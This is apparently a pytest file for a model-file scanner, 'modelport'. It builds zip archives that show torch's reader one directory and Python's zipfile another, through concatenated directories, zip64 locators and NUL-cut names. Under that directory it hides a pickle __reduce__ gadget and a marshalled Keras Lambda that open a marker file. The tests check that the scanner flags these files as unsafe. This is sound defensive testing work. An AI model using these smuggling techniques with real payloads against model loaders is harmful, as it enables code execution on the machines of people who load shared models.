"""Zips that show torch's reader one archive and Python's ``zipfile`` (numpy.load, Keras)
another (red team 7, root cause A), and the real library outputs both read alike.

``zipfile`` finds the central directory where the end record's sizes say it ends (adding
``concat = record_at - cd_size - cd_offset`` to every offset), reads the zip64 end record
from just before the locator, and cuts member names at a NUL; torch's miniz reads at
``cd_offset``, where the locator points, and keeps whole names. Each attack here hides an
object array or a Keras ``Lambda`` in the directory only ``zipfile`` reads; its oracle is
the loader itself (``np.load(allow_pickle=True)``, ``keras.saving.load_model(safe_mode=
False)``) reaching the payload under the blocking audit hook of ``tests/attacks/harness``.
"""

from __future__ import annotations

import base64
import io
import marshal
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
import torch

import modelport
from modelport.formats._zip import ZipDirectory, ZipView, prepended_bytes
from tests.attacks.harness import Run, reaches_payloads
from tests.formats.test_keras import model_config, write_keras

Members = list[tuple[str, bytes]]

NUMPY_LOADER = "import numpy; dict(numpy.load(PATH, allow_pickle=True))"
KERAS_LOADER = "import keras; keras.saving.load_model(PATH, safe_mode=False)"
NEW_RULES = {"zip-directory-mismatch", "zip-name-nul"}


# -- stored zip pieces, every offset chosen here ------------------------------------------------
def _local(name: bytes, data: bytes) -> bytes:
    crc, size = zlib.crc32(data), len(data)
    head = struct.pack(
        "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, size, size, len(name), 0
    )
    return head + name + data


def _central(name: bytes, data: bytes, offset: int, comment: bytes = b"") -> bytes:
    sizes = struct.pack(
        "<IIIHHH", zlib.crc32(data), len(data), len(data), len(name), 0, len(comment)
    )
    head = struct.pack("<4sHHHHHH", b"PK\x01\x02", 20, 20, 0, 0, 0, 0)
    return head + sizes + struct.pack("<HHII", 0, 0, 0, offset) + name + comment


def _eocd(count: int, size: int, offset: int) -> bytes:
    return struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, size, offset, 0)


def _zip64_record(count: int, size: int, offset: int) -> bytes:
    return struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, offset)


def _locator(record_at: int) -> bytes:
    return struct.pack("<4sIQI", b"PK\x06\x07", 0, record_at, 1)


def _zip64_eocd() -> bytes:
    return struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)


def _members(raw: bytes) -> Members:
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def _directory(members: Members, at: int, shift: int = 0, padded_to: int = 0) -> bytes:
    """Central records for members whose local headers follow each other from ``at``, their
    offsets written ``shift`` bytes lower; the last record's comment pads to ``padded_to``."""
    rows: list[tuple[bytes, bytes, int]] = []
    offset = at
    for name, data in members:
        rows.append((name.encode(), data, offset - shift))
        offset += len(_local(name.encode(), data))
    out = b"".join(_central(n, d, o) for n, d, o in rows[:-1])
    last, data, offset = rows[-1]
    bare = len(out) + len(_central(last, data, offset))
    return out + _central(last, data, offset, b" " * max(0, padded_to - bare))


def _locals(members: Members) -> bytes:
    return b"".join(_local(name.encode(), data) for name, data in members)


# -- the attacks -----------------------------------------------------------------------------
def concat_split(decoy: Members, hidden: Members) -> bytes:
    """torch reads ``decoy`` at the end record's ``cd_offset``; zipfile reads ``hidden``'s
    directory, which ends at the end record, and shifts every offset by ``concat``."""
    decoy_locals = _locals(decoy)
    hidden_locals = _locals(hidden)
    decoy_locals += b"\0" * max(0, len(hidden_locals) - len(decoy_locals) + 1)
    first = len(decoy_locals)
    size = max(len(_directory(decoy, 0)), len(_directory(hidden, 1 << 20)))
    decoy_dir = _directory(decoy, 0, padded_to=size)
    hidden_at = first + size
    concat = hidden_at + len(hidden_locals) - first
    hidden_dir = _directory(hidden, hidden_at, shift=concat, padded_to=size)
    assert len(decoy_dir) == len(hidden_dir) == size
    end = _eocd(len(decoy), size, first)
    return decoy_locals + decoy_dir + hidden_locals + hidden_dir + end


def zip64_split(decoy: Members, hidden: Members) -> bytes:
    """The locator points at the decoy's zip64 record (torch); zipfile reads the record just
    before the locator, the hidden one."""
    out = _locals(decoy)
    decoy_dir = _directory(decoy, 0)
    out += decoy_dir
    decoy_record = len(out)
    out += _zip64_record(len(decoy), len(decoy_dir), decoy_record - len(decoy_dir))
    hidden_at = len(out)
    out += _locals(hidden)
    hidden_dir = _directory(hidden, hidden_at)
    out += hidden_dir
    out += _zip64_record(len(hidden), len(hidden_dir), len(out) - len(hidden_dir))
    return out + _locator(decoy_record) + _zip64_eocd()


def zip64_unmarked(decoy: Members, hidden: Members) -> bytes:
    """The locator points at the decoy's zip64 record (torch); the 56 bytes before it are no
    such record, so zipfile keeps the end record's 32-bit fields, which name the hidden
    directory: its last record's comment holds those bytes and the locator."""
    out = _locals(decoy)
    decoy_dir = _directory(decoy, 0)
    out += decoy_dir
    decoy_record = len(out)
    out += _zip64_record(len(decoy), len(decoy_dir), decoy_record - len(decoy_dir))
    hidden_at = len(out)
    out += _locals(hidden)
    tail = b"\0" * 56 + _locator(decoy_record)
    bare = len(_directory(hidden, hidden_at))
    hidden_dir = _directory(hidden, hidden_at, padded_to=bare + len(tail))[: -len(tail)] + tail
    return out + hidden_dir + _eocd(len(hidden), len(hidden_dir), len(out))


def nul_names(members: Members) -> bytes:
    """Every name followed by ``NUL.txt``: zipfile's loaders find the members by their
    names, torch's reader and a whole-name sniff do not."""
    return plain_zip([(f"{name}\0.txt", data) for name, data in members])


def plain_zip(members: Members, stub: bytes = b"") -> bytes:
    """A stored zip behind ``stub``, its offsets counted from the file's start (``zip -A``):
    both readers find the same directory."""
    local = _locals(members)
    directory = _directory(members, len(stub))
    return stub + local + directory + _eocd(len(members), len(directory), len(stub) + len(local))


def zip64_plain(members: Members) -> bytes:
    """A zip ending in zip64 records written right: both readers find the same directory."""
    local = _locals(members)
    directory = _directory(members, 0)
    record = _zip64_record(len(members), len(directory), len(local))
    return local + directory + record + _locator(len(local) + len(directory)) + _zip64_eocd()


# -- payloads --------------------------------------------------------------------------------
class _OpenMarker:
    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str, str]]:
        return (open, (self.marker, "w"))


def _npy(array: np.ndarray) -> bytes:
    out = io.BytesIO()
    np.save(out, array)
    return out.getvalue()


def object_npy(marker: Path) -> bytes:
    """An object array whose pickle opens ``marker`` for writing."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    body = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()
    return body + pickle.dumps(_OpenMarker(marker), protocol=2)


def lambda_config(marker: Path) -> dict[str, object]:
    """A Keras model config whose Lambda opens ``marker`` for writing when Keras builds it."""
    source = f"lambda x: (open({str(marker)!r}, 'w').close(), x)[1]"
    function = compile(source, "<payload>", "eval").co_consts[0]  # the lambda's code
    code = base64.b64encode(marshal.dumps(function)).decode()
    config = model_config(with_lambda=True)
    for layer in config["config"]["layers"]:  # type: ignore[index]
        if layer["class_name"] == "Lambda":
            layer["config"]["function"]["config"] = {
                "code": code,
                "defaults": None,
                "closure": None,
            }
    return config


# -- the cases -------------------------------------------------------------------------------
def _keras_members(folder: Path, config: dict[str, object] | None = None) -> Members:
    path = folder / ("lambda.keras" if config else "plain.keras")
    write_keras(path, config=config)
    return _members(path.read_bytes())


def _plain_npz() -> Members:
    return [("w.npy", _npy(np.arange(64, dtype=np.float32)))]


Build = Callable[[Path, Path], bytes]  # (folder, marker) -> the file's bytes

ATTACKS: dict[str, tuple[str, str, Build]] = {
    "npz-concat": (
        NUMPY_LOADER,
        "zip-directory-mismatch",
        lambda _, marker: concat_split(_plain_npz(), [("w.npy", object_npy(marker))]),
    ),
    "keras-concat": (
        KERAS_LOADER,
        "zip-directory-mismatch",
        lambda folder, marker: concat_split(
            _keras_members(folder), _keras_members(folder, lambda_config(marker))
        ),
    ),
    "npz-zip64-locator": (
        NUMPY_LOADER,
        "zip-directory-mismatch",
        lambda _, marker: zip64_split(_plain_npz(), [("w.npy", object_npy(marker))]),
    ),
    "npz-zip64-unmarked": (
        NUMPY_LOADER,
        "zip-directory-mismatch",
        lambda _, marker: zip64_unmarked(_plain_npz(), [("w.npy", object_npy(marker))]),
    ),
    "keras-nul-names": (
        KERAS_LOADER,
        "zip-name-nul",
        lambda folder, marker: nul_names(_keras_members(folder, lambda_config(marker))),
    ),
}


def _build(tmp_path: Path, case: str) -> tuple[Path, Path]:
    loader, _, build = ATTACKS[case]
    folder = tmp_path / case
    folder.mkdir()
    marker = folder / "PWNED"
    path = folder / ("model.keras" if loader == KERAS_LOADER else "arrays.npz")
    path.write_bytes(build(folder, marker))
    return path, marker


def _rules(path: Path) -> set[str]:
    return {f.rule for file in modelport.scan(path).files for f in file.findings}


@pytest.mark.parametrize("case", list(ATTACKS))
def test_a_directory_only_zipfile_reads_is_judged(tmp_path: Path, case: str) -> None:
    """The scan names the split and judges what zipfile's loader reads: the object array's
    pickle, or the Keras Lambda."""
    path, marker = _build(tmp_path, case)
    with zipfile.ZipFile(path) as archive:  # what the loader reads: the hidden members
        if ATTACKS[case][0] == KERAS_LOADER:
            assert b'"Lambda"' in archive.read("config.json")
        else:
            assert archive.read("w.npy") == object_npy(marker)
    report = modelport.scan(path)
    found = _rules(path)
    assert report.verdict == "unsafe", report.files[0].findings
    assert ATTACKS[case][1] in found
    payload = "keras-lambda" if ATTACKS[case][0] == KERAS_LOADER else "known-gadget"
    assert payload in found, found


@pytest.mark.parametrize("case", list(ATTACKS))
def test_the_zipfile_view_lists_what_zipfile_lists(tmp_path: Path, case: str) -> None:
    """Names and header offsets as Python's zipfile gives them, which the npz and Keras
    readers read; torch's view keeps the other directory."""
    path, _ = _build(tmp_path, case)
    with zipfile.ZipFile(path) as archive:
        expected = [(info.filename, info.header_offset) for info in archive.infolist()]
    seen = ZipDirectory.read(path, view=ZipView.ZIPFILE)
    assert [(e.name, e.header_offset) for e in seen.entries] == expected
    torch_view = ZipDirectory.read(path)
    assert [(e.name, e.header_offset) for e in torch_view.entries] != expected
    assert not torch_view.zipfile_agrees


def test_a_nul_in_a_member_name_is_unsafe_by_itself(tmp_path: Path) -> None:
    """Plain arrays under NUL names: nothing runs, but the loaders disagree on the names."""
    path = tmp_path / "arrays.npz"
    path.write_bytes(nul_names(_plain_npz()))
    assert set(dict(np.load(path))) == {"w"}  # numpy reads the array under the cut name
    assert modelport.scan(path).verdict == "unsafe"
    assert "zip-name-nul" in _rules(path)


def _real_twins(tmp_path: Path) -> dict[str, Path]:
    weights, bias = np.arange(12, dtype=np.float32).reshape(3, 4), np.zeros(3)
    twins = {name: tmp_path / name for name in ("savez.npz", "compressed.npz", "model.keras")}
    np.savez(twins["savez.npz"], w=weights, b=bias)
    np.savez_compressed(twins["compressed.npz"], w=weights, b=bias)
    write_keras(twins["model.keras"])
    twins["torch.pt"] = tmp_path / "torch.pt"
    torch.save({"w": torch.arange(6.0)}, twins["torch.pt"])
    members = _members(twins["savez.npz"].read_bytes())
    twins["stub-absolute.npz"] = tmp_path / "stub-absolute.npz"
    twins["stub-absolute.npz"].write_bytes(plain_zip(members, b"#!stub\n" * 8))
    twins["stub-relative.npz"] = tmp_path / "stub-relative.npz"
    with open(twins["stub-relative.npz"], "wb") as handle:
        handle.write(b"#!stub\n" * 8)
        with zipfile.ZipFile(handle, "w") as archive:  # offsets from the zip's own start
            for name, data in members:
                archive.writestr(name, data)
    twins["zip64.npz"] = tmp_path / "zip64.npz"
    twins["zip64.npz"].write_bytes(zip64_plain(members))
    return twins


def test_real_outputs_and_prepended_stubs_stay_safe(tmp_path: Path) -> None:
    """Library outputs, a zip behind a stub with either offset convention, and zip64 end
    records written right: both readers see one archive, and the scan adds nothing."""
    for name, path in _real_twins(tmp_path).items():
        if name.startswith(("stub", "zip64")):
            with zipfile.ZipFile(path) as archive:  # zipfile reads the same members
                assert sorted(archive.namelist()) == ["b.npy", "w.npy"], name
        with zipfile.ZipFile(path) as archive:
            expected = [(info.filename, info.header_offset) for info in archive.infolist()]
        if name != "stub-relative.npz":  # torch reads no zip behind other bytes
            assert ZipDirectory.read(path).zipfile_agrees, name
        seen = ZipDirectory.read(path, start=prepended_bytes(path), view=ZipView.ZIPFILE)
        assert [(e.name, e.header_offset) for e in seen.entries] == expected, name
        report = modelport.scan(path)
        assert report.verdict == "safe", (name, report.files[0].findings)
        assert not NEW_RULES & _rules(path), name
    assert dict(torch.load(tmp_path / "torch.pt", weights_only=True))["w"].tolist() == [
        0.0,
        1.0,
        2.0,
        3.0,
        4.0,
        5.0,
    ]


@pytest.mark.heavy
def test_the_natural_loaders_reach_the_hidden_payloads(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every attack's payload is live under its loader (numpy.load, Keras with safe_mode
    off), and the harness says no for plain twins under the same loaders. Keras runs on its
    numpy backend, the quickest to import; one server per loader, every file forked."""
    monkeypatch.setenv("KERAS_BACKEND", "numpy")
    runs = []
    for case, (loader, _, _) in ATTACKS.items():
        path, marker = _build(tmp_path, case)
        runs.append(Run(loader, path, marker))
    twins = tmp_path / "twins"
    twins.mkdir()
    npz, keras_file = twins / "plain.npz", twins / "plain.keras"
    npz.write_bytes(plain_zip(_plain_npz()))
    write_keras(keras_file)
    runs += [
        Run(NUMPY_LOADER, npz, twins / "PWNED"),
        Run(KERAS_LOADER, keras_file, twins / "PWNED"),
    ]
    reaches = reaches_payloads(runs, timeout=60)
    for case, reach in zip(ATTACKS, reaches, strict=False):
        assert reach.reached, (case, reach.stderr_tail)
    assert [r.reached for r in reaches[len(ATTACKS) :]] == [False, False], reaches[-2:]
